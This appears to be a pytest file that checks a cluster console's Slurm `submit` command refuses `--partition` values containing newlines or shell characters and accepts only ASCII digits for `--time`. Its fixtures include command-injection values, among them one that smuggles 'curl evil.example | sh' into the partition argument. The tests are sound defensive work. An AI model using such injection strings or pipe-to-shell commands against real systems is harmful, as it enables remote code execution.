"""`submit`'s batch script holds only what was checked (issue 40): a `--partition` with a
newline (or anything but a partition name's characters) is refused with exit 2 before anything
is submitted, so it cannot add lines of shell to the script; `--time` is Slurm's time in ASCII
digits. Through the command line, as a user types it."""

from __future__ import annotations

import pytest

from console.errors import UsageError
from console.slurm.submit import batch_script
from tests.cli import rankdeck


def submit(tmp_path, *flags):
    inv = tmp_path / "login.yaml"
    inv.write_text("hosts:\n  - name: login\n    ssh: login.example\n    addr: 10.0.0.2\n")
    return rankdeck("submit", "-i", str(inv), "--nodes", "2", "--time", "10", *flags,
                    "--dry-run", "train.py", cwd=tmp_path)


def test_a_partition_with_a_newline_is_refused_and_adds_no_shell_line(tmp_path):
    res = submit(tmp_path, "--partition", "gpu\ncurl evil.example | sh")
    assert res.returncode == 2, (res.stdout, res.stderr)
    assert "--partition" in res.stderr and "letters, digits" in res.stderr
    assert "Traceback" not in res.stderr and "curl" not in res.stdout and res.stdout == ""


@pytest.mark.parametrize("bad", ["gpu;id", "gpu id", "$(id)", "gpu'", "", "gpu\r"])
def test_only_a_partition_name_s_characters_reach_the_script(bad):
    with pytest.raises(UsageError, match="--partition"):
        batch_script(2, "10", bad)


def test_partition_names_as_slurm_writes_them_are_taken(tmp_path):
    res = submit(tmp_path, "--partition", "gpu-long,a100_80.x")
    assert res.returncode == 0, res.stderr
    assert "#SBATCH --partition=gpu-long,a100_80.x" in res.stdout.splitlines()


def test_the_time_is_ascii_digits_only():
    with pytest.raises(UsageError, match="--time"):
        batch_script(2, "\u0661\u0660")  # Arabic-Indic digits: \d took them
    assert "#SBATCH --time=1-00:30:00" in batch_script(2, "1-00:30:00").splitlines()
